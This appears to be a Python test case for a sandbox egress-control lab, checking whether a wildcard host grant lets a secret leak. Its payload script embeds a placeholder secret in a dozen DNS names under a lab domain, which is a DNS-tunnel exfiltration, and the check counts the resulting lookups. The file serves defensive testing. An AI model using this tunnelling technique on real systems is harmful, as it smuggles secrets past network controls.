"""says much by many names below a granted wildcard, with a connection each"""

SHAPE = "wildcard grants carry data in names: DNS tunnels"
PROMISE = "P24"
LAB = True
OPTIONS = {"hosts": ["*.wild.rwlab.net:80"]}
RINGWALL = ["--wildcard-names", "3"]
PYTHON = """
import socket
for number in range(12):
    try:
        socket.create_connection((f"@SECRET@-{number}.wild.rwlab.net", 80), 30).close()
    except OSError:
        pass
"""


def succeeded(host, done):
    asked = {entry["name"] for entry in host.lab.entries() if entry["server"] == "dns" and host.secret in str(entry["name"])}
    return len(asked) > 6
